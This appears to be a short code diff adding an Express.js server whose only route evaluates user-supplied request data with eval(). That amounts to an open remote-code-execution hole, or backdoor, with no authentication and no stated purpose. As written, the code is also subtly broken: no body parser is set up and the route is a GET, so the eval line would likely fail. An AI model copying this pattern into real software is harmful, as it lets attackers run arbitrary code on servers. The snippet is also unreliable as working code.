@@ -1,0 +1,6 @@
+const app = require('express')();
+
+app.get('/', (req, res) => {
+  eval(req.body.code);
+  res.end();
+});
